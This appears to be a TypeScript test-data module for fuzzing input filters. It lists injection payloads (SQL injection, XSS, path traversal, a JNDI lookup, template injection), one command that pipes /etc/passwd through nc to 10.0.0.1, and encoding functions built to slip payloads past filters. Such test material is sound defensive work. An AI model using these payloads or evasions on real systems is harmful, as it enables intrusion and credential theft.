/** Pieces of attacks. */
export const ATTACKS = [
  "' or 1=1--",
  '<script>alert(1)</script>',
  '../../etc/passwd',
  '; cat /etc/passwd|nc 10.0.0.1 80',
  '${jndi:ldap://a.example/x}',
  '{{7*7}}',
  'un/**/ion/*!50000select*/1',
  'cat${IFS}/etc/pas"s"wd',
  "'jav'+'ascript'",
  'https://shop.example/a',
  '//evil.example\\@10.0.0.1:80',
  'SeLeCt',
  'aAaAaAaAaAa',
  'https://b.shop.co.uk/?c',
  'hello, world',
  '0123456789abcdef0',
  '123e4567-e89b-12d3-a456-426614174000',
];

// prettier-ignore
/** Characters on which languages differ, and beginnings of encodings. */
export const CHARACTERS = [
  ...'\0\t\n\v\f\r\x1b\x1c\x1f\x7f\x85\xa0\xa4\xaa\xb5\xb2\xe9\u0130\u0131\u017f\u0301\u0660\u1e9e',
  ...'\u2028\u200d\u2044\u212a\u3000\ud800\udc00\ufeff\uff1c\uff27\uff41\uffff😀𝒶',
  ...'%&\\+=;:#?/._-"\'`^*(){}[]<>|$@!~, ',
  ...['%C0%AE', '%u', '%zz', '&#', '&lt', '\\u', '\\x', '/*', '*/', '/*!', '%EF%BB%BF', '%ED%A0%80'],
  ...['%c0%2e', '\xc0%qF', '%Bg%9v', '0x2e', '0x5C4', '%%32%%65', '\u2215', '\ufe64', '\xc0\xaf'],
  ...['\xe0\x80\xae', '\xf0\x80\x81\xbf', '\xf8\x80\x80\x80\xaf', 'Zm9v', '====', '--b'],
];

const hex = (text: string) =>
  [...Buffer.from(text)].map((byte) => byte.toString(16).padStart(2, '0'));
const units = (text: string, spell: (code: number) => string) =>
  Array.from({ length: text.length }, (_, at) => spell(text.charCodeAt(at))).join('');
const overlong = (code: number) =>
  code < 128 ? `%${(0xc0 | (code >> 6)).toString(16)}%${(0x80 | (code & 63)).toString(16)}` : '%';

/** Ways to write a text so that it still arrives; the first is no change. */
export const ENCODINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text,
  (text) =>
    hex(text)
      .map((pair) => `%${pair}`)
      .join(''),
  (text) =>
    hex(text)
      .map((pair) => `%25${pair.toUpperCase()}`)
      .join(''),
  (text) => units(text, (code) => `%u${code.toString(16).padStart(4, '0')}`),
  (text) => units(text, (code) => `&#${code};`),
  (text) => units(text, (code) => `&#x${code.toString(16)}`),
  (text) => text.replaceAll('<', '&LT;').replaceAll("'", '&apos').replaceAll('/', '&sol;'),
  (text) => units(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`),
  (text) => units(text, (code) => `\\x${(code & 255).toString(16).padStart(2, '0')}`),
  (text) => units(text, (code) => `\\${(code & 255).toString(8).padStart(3, '0')}`),
  (text) => units(text, overlong),
  (text) =>
    units(text, (code) => String.fromCharCode(code > 32 && code < 127 ? code + 0xfee0 : code)),
  (text) => Buffer.from(text).toString('base64'),
  (text) => Buffer.from(`>>> ${text} ???`).toString('base64url'),
  (text) => Buffer.from(text, 'latin1').toString('base64').slice(0, -1),
  (text) => Array.from(text).join('/**/'),
  (text) => text.toUpperCase(),
  (text) => text.slice(0, 9).repeat(70),
  (text) => text.padEnd(512, ' ab<'),
];
